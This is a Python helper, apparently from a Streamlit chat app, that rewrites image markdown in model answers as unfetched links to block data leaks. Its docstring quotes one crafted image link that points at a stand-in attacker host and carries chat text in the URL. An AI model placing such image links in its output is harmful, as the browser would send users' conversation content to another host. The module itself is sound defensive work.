"""Markdown from a model, made safe to render.

Streamlit already renders markdown without raw HTML. What is left is images: a
crafted answer such as ``![x](https://evil.example/?q=<chat text>)`` would make
the browser fetch that URL, sending chat content to another host. Unless the
person allows images for a card, image syntax becomes a plain link that the
browser does not fetch. Code (fences and inline spans) is left as written: it
never renders images.
"""

from __future__ import annotations

import re

# ![alt](url "title") and ![alt][ref]; alt text may not contain brackets.
_INLINE_IMAGE = re.compile(r"!\[([^\[\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\[\]]*)\]\[([^\[\]]*)\]")
# Fenced blocks (``` or ~~~, to the closing fence or the end) and inline code spans.
_CODE = re.compile(r"(^|\n)(```|~~~)[^\n]*\n.*?(\n\2[^\n]*(?=\n|$)|$)|(`+)[^`]*?\4", re.DOTALL)


def _block(text: str) -> str:
    def inline(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        url = match.group(2)
        # Starts with the icon, so a "!" before it cannot make an image again.
        return f"🖼 [{alt} (image not loaded)]({url})" if url else f"🖼 {alt}"

    def reference(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        return f"🖼 [{alt} (image not loaded)][{match.group(2) or match.group(1)}]"

    text = _REF_IMAGE.sub(reference, _INLINE_IMAGE.sub(inline, text))
    # Whatever image syntax is left (nested brackets, odd spacing) loses its "!".
    return text.replace("![", "\\![")


def block_images(text: str) -> str:
    """Replace image syntax outside code with a link to the image (not fetched)."""
    out: list[str] = []
    pos = 0
    for match in _CODE.finditer(text):
        out.append(_block(text[pos : match.start()]))
        out.append(match.group(0))
        pos = match.end()
    out.append(_block(text[pos:]))
    return "".join(out)
